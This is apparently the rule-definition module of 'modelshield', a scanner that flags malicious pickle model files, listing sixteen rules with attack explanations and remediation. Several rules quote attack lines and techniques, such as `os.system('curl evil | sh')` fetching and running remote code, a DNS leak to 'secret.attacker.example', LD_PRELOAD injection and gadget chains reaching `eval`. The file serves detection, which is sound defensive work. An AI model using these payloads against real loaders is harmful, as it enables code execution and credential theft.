"""The pickle analyser's rules (PKL0xx): ids are stable and never reused."""

from __future__ import annotations

from modelshield.core.rules import Category, Rule, Severity

CODE_EXECUTION = Rule(
    id="PKL001",
    title="Pickle calls a function that runs code or shell commands",
    severity=Severity.CRITICAL,
    category=Category.LOAD_TIME_CODE,
    overview="The pickle imports or calls a callable whose job is to execute something: a shell command "
    "(`os.system`, `subprocess.Popen`, `pty.spawn`), Python source (`eval`, `exec`, `runpy`, `code`, "
    "`timeit`, `pdb`), a code object (`marshal.loads`, `types.FunctionType`, dill and cloudpickle helpers) "
    "or native code (`ctypes`). Names are judged as the loader resolves them, so `posix.system`, "
    "`nt.system` and Python-2 spellings such as `commands.getoutput` are caught too. Standard constructs that "
    "run code the file carries are graded by that code: a whole `torch.fx.GraphModule` makes `torch.load` exec "
    "its generated `forward()` source, which is parsed (never run) and is medium when it only calls tensor "
    "operations, critical when it imports or calls anything that runs commands, touches files or the network.",
    attack="Unpickling is a small stack machine whose REDUCE, INST, OBJ and NEWOBJ opcodes call whatever "
    "callable the GLOBAL or STACK_GLOBAL opcodes imported, with arguments taken from the stream. An attacker "
    "adds `os.system('curl evil | sh')` next to legitimate weights; `torch.load(..., weights_only=False)`, "
    "`pickle.load`, `joblib.load` or `pandas.read_pickle` runs it before returning the model.",
    impact="Arbitrary code runs with the privileges of whoever loads the model: credential theft, "
    "backdoors, lateral movement in training clusters, tampering with the model itself.",
    remediation="Do not load the file. If you need its tensors, ask the publisher for a safetensors export, "
    "or load it in a disposable sandbox with `torch.load(weights_only=True)`, which refuses these globals.",
    example="```\n0: \\x80 PROTO 2\n2: c    GLOBAL 'posix system'\n15: X   BINUNICODE 'curl evil.sh | sh'\n"
    "37: \\x85 TUPLE1\n38: R    REDUCE      -> os.system('curl evil.sh | sh')\n```",
)

IMPORT_GADGET = Rule(
    id="PKL002",
    title="Pickle uses an indirect import or attribute-access gadget",
    severity=Severity.CRITICAL,
    category=Category.LOAD_TIME_CODE,
    overview="The pickle references a callable that can reach any other object at load time: "
    "`builtins.getattr`/`setattr`/`__import__`, `importlib.import_module`, `pkgutil.resolve_name`, "
    "`pydoc.locate`, `operator.attrgetter`/`itemgetter`/`methodcaller`, `functools.partial`/`reduce`, "
    "`copyreg` helpers used outside their normal shape, `builtins.type`, `gc`, `logging.config`.",
    attack="Denylists name dangerous functions; gadgets let a pickle fetch those functions without ever "
    "naming them in a GLOBAL. `pkgutil.resolve_name('os:system')` returns `os.system`, which the next REDUCE "
    "calls; `getattr(importlib.import_module('builtins'), 'eval')` does the same for `eval`. Names can even be "
    "assembled from fragments at load time, so no string of the real target appears in the file.",
    impact="Equivalent to arbitrary code execution: whatever the gadget returns is usually called next.",
    remediation="Treat the file as malicious unless you can show why the gadget is needed. Legitimate "
    "framework checkpoints do not use these callables.",
    example="`pkgutil.resolve_name('os:system')` followed by REDUCE with `('id',)`.",
)

DYNAMIC_IMPORT = Rule(
    id="PKL003",
    title="Global name computed at load time (dynamic STACK_GLOBAL)",
    severity=Severity.CRITICAL,
    category=Category.LOAD_TIME_CODE,
    overview="A STACK_GLOBAL opcode imports a module or attribute whose name is not a constant string in "
    "the file but the result of a call made while unpickling.",
    attack="STACK_GLOBAL pops two values from the stack and imports `module.name`. If those values are "
    "built at load time (for example `str.join` over single letters, or a decoded base64 string), a scanner "
    "that looks for strings sees no dangerous name, while the loader imports `os.system`.",
    impact="Any function can be imported and called; the file hides what it runs.",
    remediation="Do not load the file. No legitimate serializer computes import names at load time.",
)

PRIVATE_WALK = Rule(
    id="PKL004",
    title="Global name walks through private or dunder attributes",
    severity=Severity.CRITICAL,
    category=Category.LOAD_TIME_CODE,
    overview="The global's name has a dunder component (`__builtins__`, `__globals__`, `__subclasses__`) "
    "or is a dotted path (protocol 4+) that walks through a private attribute, and the exact name is not "
    "allowlisted.",
    attack="From protocol 4 the loader resolves `name` with `getattr` one dotted component at a time, so "
    "`numpy` + `__builtins__.eval` or `builtins` + `print.__class__.__base__.__subclasses__` reach anything in "
    "the interpreter from an innocent-looking module. Dunder attributes are the classic sandbox escape.",
    impact="The pickle reaches objects a module never meant to export, usually to execute code.",
    remediation="Do not load the file. If a trusted framework really pickles this exact name, add it to "
    "`[tool.modelshield.allow] pickle-globals`.",
    example="`STACK_GLOBAL 'builtins' 'print.__self__.__dict__'`",
)

SYSTEM_ACCESS = Rule(
    id="PKL005",
    title="Pickle uses a callable with file, network or process access",
    severity=Severity.HIGH,
    category=Category.LOAD_TIME_CODE,
    overview="The pickle imports or calls something that reads or writes files, opens network connections "
    "or changes the process: `io.open`, `shutil`, `tempfile`, `socket`, `urllib`, `http`, `requests`, "
    "`ssl.get_server_certificate`, `logging.FileHandler`, `webbrowser`, `signal`, `sys`, `pathlib` methods.",
    attack="Without running a shell command, a pickle can still overwrite `~/.bashrc` or an SSH "
    "`authorized_keys` file, download a second stage, or leak environment secrets through a DNS lookup "
    "(`ssl.get_server_certificate(('secret.attacker.example', 443))`).",
    impact="File tampering, data exfiltration and persistence on the machine that loads the model.",
    remediation="Do not load the file; ask the publisher why a model needs file or network access at load time.",
)

UNKNOWN_GLOBAL = Rule(
    id="PKL006",
    title="Pickle imports a global that is not on the allowlist",
    severity=Severity.MEDIUM,
    category=Category.LOAD_TIME_CODE,
    overview="The pickle imports (and possibly calls) a module attribute that is neither on modelshield's "
    "allowlist of what framework checkpoints use (tensor and array rebuild helpers, estimator classes, "
    "basic containers) nor on its catalogue of known-dangerous callables. A class or helper of a "
    "known library (gensim, statsmodels, pandas, Lightning, omegaconf, rdkit, ...) whose `__setstate__` only "
    "stores attributes is reported low, with the package the file needs; one whose `__setstate__` acts on "
    "its state (a patsy formula, a temporary file) is judged by that state.",
    attack="Denylists are always incomplete: published research counts over a hundred exploitable "
    "callables in common packages. Importing a module also runs its top-level code. An unknown global is "
    "therefore a possible gadget, even if it is most often a harmless custom class.",
    impact="Unknown: from nothing to arbitrary code, depending on what the callable does.",
    remediation="Check what the global is. If you trust it, allowlist the exact name in the policy "
    '(`[tool.modelshield.allow] pickle-globals = ["mypkg.models:MyNet"]`, or a whole package with `"mypkg.*"`, '
    "which never covers names known to be dangerous); otherwise prefer a data-only "
    "format (safetensors) or `torch.load(weights_only=True)`.",
)

MODEL_DEPENDENCY = Rule(
    id="PKL007",
    title="Pickle loads another model or pickle",
    severity=Severity.HIGH,
    category=Category.MODEL_DEPENDENCY,
    overview="The pickle calls a function that loads another model or serialized object: `torch.load`, "
    "`torch.hub`, `*.from_pretrained`, `huggingface_hub` downloads, `joblib.load`, `numpy.load`, "
    "`pandas.read_pickle`, `pickle.loads`, `torch.storage._load_from_bytes`. Constant arguments are recorded "
    "in the finding's details; embedded bytes are scanned as a nested pickle.",
    attack="A small, clean-looking checkpoint can pull its payload from elsewhere at load time: a pickle "
    "embedded as a bytes constant, a sibling file, or a repository on a model hub that the attacker can "
    "change after the scan.",
    impact="Whatever the dependency contains runs too; the scanned file alone does not tell the whole story.",
    remediation="Scan the dependency as well (nested byte payloads were scanned and are reported under "
    "`<nested pickle @offset>`). Prefer models that load without fetching or unpickling anything else.",
    example="`torch.storage._load_from_bytes(b'\\x80\\x02cposix\\nsystem\\n...')`",
)

COMPUTED_CALL = Rule(
    id="PKL008",
    title="Pickle calls an object computed at load time",
    severity=Severity.CRITICAL,
    category=Category.LOAD_TIME_CODE,
    overview="A call opcode (REDUCE, OBJ, NEWOBJ, ...) targets something that is not an imported global: "
    "the result of an earlier call, a persistent object, or a memo value the scanner could not resolve.",
    attack="Gadget chains first obtain a callable indirectly (`getattr(module, 'eval')`, a function whose "
    "attributes were overwritten by BUILD, a registry lookup) and then call it. Only the last step runs the "
    "payload, and its name never appears in the file.",
    impact="Usually arbitrary code execution.",
    remediation="Do not load the file. Framework checkpoints only ever call imported globals.",
)

STATE_ON_GLOBAL = Rule(
    id="PKL009",
    title="Pickle sets state on a module, class or function (BUILD on a global)",
    severity=Severity.CRITICAL,
    category=Category.LOAD_TIME_CODE,
    overview="A BUILD opcode applies state to an imported global itself rather than to a freshly created instance.",
    attack="BUILD calls `__setstate__` or `setattr` on the object on the stack. Applied to a function, class "
    "or module it rewrites attributes of live code: the 'allowlist poisoning' gadget sets attributes on an "
    "allowlisted `numpy` function so that a later, allowlisted call returns `builtins.eval`.",
    impact="Safe-looking allowlisted callables are turned into code execution; the process stays poisoned "
    "after loading.",
    remediation="Do not load the file. Serializers never apply state to a global.",
)

FOREIGN_MUTATION = Rule(
    id="PKL010",
    title="Container opcode mutates an object that is not a fresh container",
    severity=Severity.HIGH,
    category=Category.LOAD_TIME_CODE,
    overview="SETITEM(S), APPEND(S) or ADDITEMS is applied to something other than a list, dict or set the "
    "pickle just built (or an instance of a trusted class).",
    attack="These opcodes call `__setitem__`, `append`, `extend` or `add` on whatever is on the stack. On "
    "`os.environ` that injects environment variables such as `LD_PRELOAD`; on `sys.modules` or a module "
    "dict it replaces modules and functions for the rest of the process.",
    impact="Process-wide tampering that can lead to code execution later.",
    remediation="Do not load the file.",
    example="`GLOBAL 'os environ'` then `SETITEM 'LD_PRELOAD' '/tmp/x.so'`",
)

EXTENSION_GLOBAL = Rule(
    id="PKL011",
    title="Global fetched from the copyreg extension registry (EXT1/EXT2/EXT4)",
    severity=Severity.CRITICAL,
    category=Category.LOAD_TIME_CODE,
    overview="An EXT opcode imports a global by number from `copyreg`'s extension registry, so the file "
    "does not say which global it is.",
    attack="The registry is empty by default, but any imported library may register codes. A scanner that "
    "only reads GLOBAL opcodes never sees what an EXT opcode resolves to in the victim's process.",
    impact="An unknown callable may be imported and called.",
    remediation="Do not load the file unless you control the registry. Standard serializers never emit EXT opcodes.",
)

PERSISTENT_ID = Rule(
    id="PKL012",
    title="Unexpected persistent id",
    severity=Severity.MEDIUM,
    category=Category.LOAD_TIME_CODE,
    overview="A PERSID/BINPERSID opcode hands an id to the loader's `persistent_load` hook, and the id does "
    "not have the shape PyTorch uses (`('storage', <StorageType>, key, location, numel, ...)`).",
    attack="`persistent_load` is application code: what it does with an unexpected id depends on the "
    "loader, and custom loaders have turned ids into file paths or imports.",
    impact="Depends on the loader; at best the file fails to load.",
    remediation="Find out which loader reads the file and how it resolves persistent ids.",
)

FRAME_VIOLATION = Rule(
    id="PKL013",
    title="Opcode crosses a frame boundary, or frames are nested",
    severity=Severity.HIGH,
    category=Category.INTEGRITY,
    overview="Protocol 4+ pickles group opcodes into FRAMEs. Here an opcode's argument runs past the end of "
    "its frame, a new FRAME starts before the current one ends, or inline array data starts inside a frame.",
    attack="Loaders disagreed on such streams (cpython#154848): before CPython 3.13.15/3.14.7 the C "
    "unpickler executed the bytes past the frame end as opcodes, while linear readers treated them as data. "
    "An attacker hides a GLOBAL/REDUCE there that one tool runs and another never sees.",
    impact="A payload can be invisible to tools that parse the stream differently from the loader.",
    remediation="Do not load the file with an older Python. Serializers never produce this; re-export the "
    "model with its framework.",
)

MALFORMED = Rule(
    id="PKL014",
    title="Malformed pickle stream",
    severity=Severity.MEDIUM,
    category=Category.INTEGRITY,
    overview="The pickle breaks before its STOP opcode: an invalid opcode, a truncated argument, a stack "
    "underflow, a missing memo entry or an argument the loader would reject.",
    attack="Loaders execute opcodes one by one, so everything before the break runs before the error is "
    "raised. The 'nullifAI' models put a reverse shell at the start of a deliberately broken pickle; "
    "scanners that discard a stream on a parse error reported them as clean.",
    impact="What precedes the break ran (and is reported separately); what follows was not analysed.",
    remediation="Do not load the file. Obtain an intact copy and compare hashes with the publisher.",
)

TRAILING_DATA = Rule(
    id="PKL015",
    title="Unexpected bytes after or between pickles",
    severity=Severity.LOW,
    category=Category.INTEGRITY,
    overview="Bytes follow a complete pickle that are neither another pickle nor data of a known layout "
    "(legacy PyTorch storages, joblib arrays). Pickles found after the garbage are scanned as well.",
    attack="Loaders stop at the first STOP, but other readers may look further: a second pickle, a zip "
    "archive or an encrypted blob appended to a model can be read by custom loading code, and hides from "
    "tools that only parse the first pickle.",
    impact="Usually harmless padding or a concatenation mistake; occasionally a hidden second payload.",
    remediation="Check where the extra bytes come from; re-export the model with its framework to drop them.",
)

SCAN_BOUND = Rule(
    id="PKL020",
    title="Pickle not fully analysed: a scan bound was reached",
    severity=Severity.MEDIUM,
    category=Category.INTEGRITY,
    overview="The analysis of a pickle stopped at one of the policy's `[limits]`: the memory spent on its "
    "stack and memo (`pickle-memory-bytes`), or the bytes after it searched for further pickles "
    "(`pickle-trailing-search-bytes`). This is a limit of the scan, not a sign of an attack: large data "
    "pickles (millions of memo entries) reach it legitimately.",
    attack="Whatever lies past the bound was not read. An attacker can pad a pickle so that its payload "
    "sits beyond the point where a scanner gives up; a scanner that then reports the file as clean is "
    "bypassed.",
    impact="Calls past the bound are unknown; everything before it was analysed and is reported.",
    remediation="If the file is expected to be this large, raise the bound named in the finding in the "
    "policy (`[tool.modelshield.limits]`) and scan again; otherwise treat the file as unverified.",
    example="`not fully analysed: the stack and memo hold more than 2147483648 bytes at offset 2093417215 "
    "(pickle-memory-bytes = 2147483648)`",
)

PICKLE_RULES = (
    CODE_EXECUTION,
    IMPORT_GADGET,
    DYNAMIC_IMPORT,
    PRIVATE_WALK,
    SYSTEM_ACCESS,
    UNKNOWN_GLOBAL,
    MODEL_DEPENDENCY,
    COMPUTED_CALL,
    STATE_ON_GLOBAL,
    FOREIGN_MUTATION,
    EXTENSION_GLOBAL,
    PERSISTENT_ID,
    FRAME_VIOLATION,
    MALFORMED,
    TRAILING_DATA,
    SCAN_BOUND,
)
